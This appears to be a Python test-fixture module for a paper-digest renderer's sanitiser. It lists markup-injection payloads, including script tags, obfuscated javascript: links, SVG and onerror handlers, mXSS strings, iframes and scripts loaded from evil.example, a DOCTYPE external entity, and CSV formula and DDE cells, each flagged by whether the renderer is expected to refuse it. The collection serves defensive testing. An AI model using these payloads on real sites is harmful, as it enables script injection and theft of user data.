"""Markup injection: raw HTML, unsafe link and picture schemes, markup in every place printed."""

from __future__ import annotations

from . import Payload, digest, entry

_CODE = "```"
_JS = "javascript:alert(1)"


def _one(name: str, body: str, *, flagged: bool = True, **kwargs: object) -> Payload:
    """A payload of one entry whose summary is ``body``."""
    return Payload(name, digest(entry("Paper", body)), 1, flagged=flagged, **kwargs)  # type: ignore[arg-type]


def _front(name: str, front: str, *, flagged: bool = False, **kwargs: object) -> Payload:
    """A payload whose front matter holds the attack; two plain entries."""
    text = digest(entry("First", "One."), entry("Second", "Two."), front=front)
    return Payload(name, text, 2, flagged=flagged, **kwargs)  # type: ignore[arg-type]


def _meta(name: str, meta: str, *, flagged: bool = False, **kwargs: object) -> Payload:
    """A payload whose entry's metadata comment holds the attack."""
    body = f"<!-- paperdigest\n{meta}\n-->\n\nSummary."
    return Payload(name, digest(entry("Paper", body)), 1, flagged=flagged, **kwargs)  # type: ignore[arg-type]


# the same link written every way a browser still reads as javascript:
_OBFUSCATED = {
    "entity-decimal": "&#106;avascript:alert(1)",
    "entity-hex": "&#x6A;avascript&#x3A;alert(1)",
    "entity-named": "javascript&colon;alert(1)",
    "entity-padded": "&#0000106&#0000097vascript:alert(1)",
    "tab": "java\tscript:alert(1)",
    "tab-entity": "java&#9;script:alert(1)",
    "newline-entity": "java&#10;script:alert(1)",
    "case": "JaVaScRiPt:alert(1)",
    "leading-space-entity": "&#32;javascript:alert(1)",
    "leading-control": "\x01javascript:alert(1)",
    "percent": "javascript%3Aalert(1)",
    "angle": "<javascript:alert(1)>",
}

# spellings that are a javascript: link for Markdown; the others are text or a
# relative link (a tab or a control character ends a link destination, % and an
# entity without ";" are not a scheme)
_LINKS = {"entity-decimal", "entity-hex", "entity-named", "case", "leading-space-entity", "angle"}

PAYLOADS = [
    # -- raw HTML of every dangerous kind ------------------------------------------------
    _one("markup-script-block", "<script>alert(1)</script>"),
    _one("markup-script-inline", "Text <script>alert(1)</script> more text."),
    _one("markup-script-src", '<script src="https://evil.example/x.js"></script>'),
    _one("markup-style-block", "<style>body { display: none }</style>"),
    _one("markup-style-attr", '<span style="background:url(javascript:alert(1))">x</span> y'),
    _one(
        "markup-iframe",
        '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    ),
    _one("markup-object", '<object data="https://evil.example/x.swf" type="x"></object>'),
    _one("markup-embed", 'Inline <embed src="https://evil.example/x.swf"> embed.'),
    _one(
        "markup-form",
        '<form action="https://evil.example/"><input name="q">'
        '<button formaction="javascript:alert(1)">Go</button></form>',
    ),
    _one("markup-svg-block", '<svg onload="alert(1)"><script>alert(2)</script></svg>'),
    _one(
        "markup-svg-inline",
        'See <svg><a xlink:href="javascript:alert(1)"><text>this</text></a></svg> now.',
    ),
    _one("markup-math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    _one("markup-meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    _one("markup-base", '<base href="javascript:alert(1)//">'),
    _one("markup-link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    _one("markup-noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    _one("markup-template", "<template><script>alert(1)</script></template>"),
    _one(
        "markup-details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"
    ),
    _one("markup-unclosed-tag", "Ends with <img src=x onerror=alert(1)//", flagged=False),
    # comments hide what they hold: nothing is refused
    _one("markup-comment-bang", "<!-- --!><script>alert(1)</script> -->\n\nAfter.", flagged=False),
    _one("markup-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    _one("markup-processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    _one(
        "markup-doctype-entity",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file://@CANARY@">]>\n\n&e; text',
    ),
    _one("markup-a-onclick", '<a href="https://example.org/" onclick="alert(1)">x</a>'),
    # -- pictures: handlers, schemes, srcset -----------------------------------------------
    # a picture is rebuilt from src, alt, width and height; other attributes are ignored
    _one(
        "markup-img-handlers",
        '<img src="https://example.org/a.png" onerror="alert(1)" onload="alert(2)">',
        flagged=False,
    ),
    _one(
        "markup-img-srcset",
        '<img src="https://example.org/a.png" '
        'srcset="javascript:alert(1) 1x, data:image/svg+xml,x 2x">',
        flagged=False,
    ),
    _one("markup-img-javascript", '<img src="javascript:alert(1)">'),
    _one("markup-img-data-svg", '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">'),
    _one("markup-img-vbscript", '<img src="vbscript:msgbox(1)">'),
    _one("markup-img-entity-javascript", '<img src="&#106;avascript:alert(1)">'),
    _one(
        "markup-img-style",
        '<img src="https://example.org/a.png" style="width:expression(alert(1))">',
        flagged=False,
    ),
    _one(
        "markup-img-attr-breakout",
        '<img src="https://example.org/a.png" alt=\'"><script>alert(1)</script>\'>',
        flagged=False,
    ),
    _one("markup-picture-data", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    _one("markup-picture-javascript", f"![x]({_JS})"),
    _one("markup-picture-vbscript", "![x](vbscript:msgbox(1))"),
    # -- links: every spelling of a script URL ---------------------------------------------
    _one("markup-link-javascript", f"[x]({_JS})"),
    _one("markup-a-javascript", f'<a href="{_JS}">x</a>'),
    *(
        _one(f"markup-link-{kind}", f"[x]({url})", flagged=kind in _LINKS)
        for kind, url in _OBFUSCATED.items()
    ),
    _one("markup-link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    _one("markup-link-vbscript", "[x](vbscript:msgbox(1))"),
    _one("markup-autolink-javascript", f"<{_JS}>"),
    _one("markup-autolink-data", "<data:text/html,hi>"),
    _one("markup-reference-javascript", f"[x][r]\n\n[r]: {_JS}"),
    _one("markup-reference-entity", "[x][r]\n\n[r]: &#106;avascript:alert(1)"),
    # a link title is text: escaped in an attribute, nothing to refuse
    _one(
        "markup-link-title-quote",
        '[x](https://example.org/ "a\\" onclick=\\"alert(1)")',
        flagged=False,
    ),
    _one("markup-link-mailto", "[x](mailto:a@example.org?body=%3Cscript%3E)", flagged=False),
    _one("markup-bare-javascript", "Not a link: javascript:alert(1) stays text.", flagged=False),
    _one(
        "markup-bare-url-quote",
        'https://example.org/"onmouseover="alert(1) ends here.',
        flagged=False,
    ),
    # -- reST-isms -----------------------------------------------------------------------
    _one("markup-rest-anonymous-target", "`x`__\n\n__ javascript:alert(1)", flagged=False),
    _one("markup-rest-named-target", "`x <javascript:alert(1)>`_", flagged=False),
    _one(
        "markup-eval-rst-anonymous-target",
        f"{_CODE}{{eval-rst}}\n`x`__\n\n__ javascript:alert(1)\n{_CODE}",
    ),
    _one(
        "markup-eval-rst-meta-refresh",
        f"{_CODE}{{eval-rst}}\n.. meta::\n"
        f"   :http-equiv=refresh: 0; url=javascript:alert(1)\n{_CODE}",
    ),
    _one(
        "markup-eval-rst-raw",
        f"{_CODE}{{eval-rst}}\n.. raw:: html\n\n   <script>alert(1)</script>\n{_CODE}",
    ),
    _one("markup-raw-directive", f"{_CODE}{{raw}} html\n<script>alert(1)</script>\n{_CODE}"),
    _one("markup-raw-colon", ":::{raw} html\n<script>alert(1)</script>\n:::"),
    _one("markup-raw-role", "Text {raw-html}`<script>alert(1)</script>` more."),
    _one("markup-rest-raw-role", "Text :raw-html:`<script>alert(1)</script>` more.", flagged=False),
    # -- code and math are text --------------------------------------------------------------
    _one("markup-code-span", "Code `<script>alert(1)</script>` span.", flagged=False),
    _one("markup-code-block", f"{_CODE}html\n<script>alert(1)</script>\n{_CODE}", flagged=False),
    _one(
        "markup-code-info", f'{_CODE}"><script>alert(1)</script>\n<b>x</b>\n{_CODE}', flagged=False
    ),
    _one("markup-math-html", "Math $<img src=x onerror=alert(1)>$ here.", flagged=False),
    _one("markup-math-href", "Math $\\href{javascript:alert(1)}{x}$ here."),
    _one(
        "markup-math-mathjax",
        "Math $\\class{x}{y} \\cssId{a}{b} \\style{color:red}{c} \\require{html}$.",
    ),
    _one("markup-sub-role-html", "H{sub}`<script>alert(1)</script>`O", flagged=False),
    # -- containers, tables, footnotes -------------------------------------------------------
    _one(
        "markup-admonition-title",
        ":::{admonition} <script>alert(1)</script>\nBody.\n:::",
        flagged=False,
    ),
    _one(
        "markup-details-title", ":::details <img src=x onerror=alert(1)>\nBody.\n:::", flagged=False
    ),
    _one("markup-note-raw", ":::{note}\n<iframe src=https://evil.example/></iframe>\n:::"),
    _one(
        "markup-table-cell",
        "| a | b |\n| - | - |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    ),
    _one(
        "markup-footnote", "Text[^a].\n\n[^a]: <script>alert(1)</script> [x](javascript:alert(1))"
    ),
    _one(
        "markup-list-quote",
        "- > <iframe src=https://evil.example/></iframe>\n- [x](javascript:alert(1))",
    ),
    # -- titles, groups, intros: every place a digest's words are printed ---------------------
    Payload("markup-title-script", digest(entry("<script>alert(1)</script>Title")), 1),
    Payload(
        "markup-title-unlinked-script",
        "# 2021\n\n## <script>alert(1)</script> Title\n\nText.\n",
        1,
    ),
    Payload("markup-title-img", digest(entry('<img src=x onerror="alert(1)">Title')), 1),
    Payload("markup-title-picture", digest(entry("![x](javascript:alert(1)) Title")), 1),
    Payload(
        "markup-title-entities",
        "# 2021\n\n## &lt;script&gt;alert(1)&lt;/script&gt; "
        "&lt;img src=x onerror=alert(1)&gt;\n\nText.\n",
        1,
        flagged=False,
    ),
    Payload("markup-title-url-javascript", digest(entry("Title", "Text.", url=_JS)), 1),
    Payload(
        "markup-title-url-data",
        digest(entry("Title", "Text.", url="data:text/html,<script>x</script>")),
        1,
    ),
    Payload(
        "markup-title-url-quote",
        digest(entry("Title", "Text.", url='https://example.org/"><script>x</script>')),
        1,
        flagged=False,
    ),
    Payload(
        "markup-group-script",
        digest(entry("Paper"), group="# 2021 <script>alert(1)</script>"),
        1,
    ),
    Payload(
        "markup-group-img",
        digest(entry("Paper"), group='# <img src=x onerror="alert(1)"> Group'),
        1,
    ),
    Payload(
        "markup-group-entities",
        digest(entry("Paper"), group="# &lt;img src=x onerror=alert(1)&gt; &quot;&gt;&lt;b"),
        1,
        flagged=False,
    ),
    Payload(
        "markup-intro",
        "Intro <script>alert(1)</script> [x](javascript:alert(1)).\n\n" + digest(entry("Paper")),
        1,
    ),
    Payload(
        "markup-group-intro",
        digest(
            entry("Paper"),
            group="# 2021\n\n<iframe src=https://evil.example/></iframe> Group intro.",
        ),
        1,
    ),
    _front("markup-front-title", 'title: "<script>alert(1)</script>"'),
    _front("markup-front-emoji", 'emoji: "<img src=x onerror=alert(1)>"'),
    _front("markup-front-emoji-quote", "emoji: '\"><script>alert(1)</script>'"),
    _front(
        "markup-front-topics",
        "topics: ['<script>alert(1)</script>', '\"><img src=x onerror=alert(1)>', "
        "\"' onmouseover='x\"]",
    ),
    _front("markup-front-tags", "tags: ['<svg onload=alert(1)>']"),
    _front("markup-front-date", 'date: "<script>alert(1)</script>"', flagged=True),
    _front(
        "markup-front-extra", 'venue: "<script>alert(1)</script>"\nhomepage: "javascript:alert(1)"'
    ),
    Payload(
        "markup-toml-front",
        '+++\ntitle = "<script>alert(1)</script>"\nemoji = "<svg onload=alert(1)>"\n+++\n\n'
        + digest(entry("Paper")),
        1,
        flagged=False,
    ),
    _meta("markup-meta-topics", "topics: ['<script>alert(1)</script>', '\"><b>']"),
    _meta("markup-meta-id", "id: '\"><script>alert(1)</script>'"),
    _meta(
        "markup-meta-image-alt",
        "image: {src: 'https://example.org/a.png', alt: '\"><script>alert(1)</script>'}",
    ),
    _meta("markup-meta-image-javascript", "image: 'javascript:alert(1)'", flagged=True),
    _meta(
        "markup-meta-image-data",
        "image: {src: 'data:image/svg+xml,<svg onload=alert(1)>'}",
        flagged=True,
    ),
    _meta("markup-meta-date", "date: '<script>'", flagged=True),
    _meta("markup-meta-extra", "venue: '<iframe src=javascript:alert(1)>'"),
    # -- structured digests --------------------------------------------------------------------
    Payload(
        "markup-structured-yaml",
        "title: '<script>alert(1)</script>'\nemoji: '<svg onload=alert(1)>'\n"
        "intro: '<iframe></iframe> [x](javascript:alert(1))'\nentries:\n"
        "  - title: '<script>alert(2)</script>'\n    url: 'javascript:alert(3)'\n"
        "    summary: '<img src=x onerror=alert(4)> <form action=x></form>'\n"
        "    papers: [{url: 'javascript:alert(5)', label: '<b>x</b>'}, 'data:text/html,x']\n"
        "    topics: ['<script>']\n    group: '<script>alert(6)</script>'\n",
        1,
        suffix=".yaml",
    ),
    Payload(
        "markup-structured-json",
        '{"title": "<svg onload=alert(1)>", "entries": [{"title": "\\"><script>x</script>",'
        ' "url": "vbscript:x", "summary": "<style>*{}</style>", "id": "\\"><b>"}]}',
        1,
        suffix=".json",
    ),
    Payload(
        "markup-structured-toml",
        '[[entries]]\ntitle = "<iframe>"\nurl = "JaVaScRiPt:alert(1)"\n'
        'summary = "<object data=x></object>"\n',
        1,
        suffix=".toml",
    ),
    # -- exports: formula cells, BibTeX fields -------------------------------------------------
    Payload(
        "markup-csv-formula",
        digest(
            entry(
                '=HYPERLINK("https://evil.example","x")', "[p](https://arxiv.org/abs/2106.00001)"
            ),
            entry("+cmd|' /C calc'!A0", "@SUM(1+1)", url="https://example.org/b"),
            entry("-2+3", "\t=1+1", url="https://example.org/c"),
        ),
        3,
        flagged=False,
    ),
    Payload(
        "markup-bibtex-fields",
        digest(
            entry(
                "}, note = {x}, howpublished = {\\url{javascript:alert(1)}",
                "[p](https://arxiv.org/abs/2106.00002) and [d](https://doi.org/10.1000/a}b{c)",
            )
        ),
        1,
        flagged=False,
    ),
]
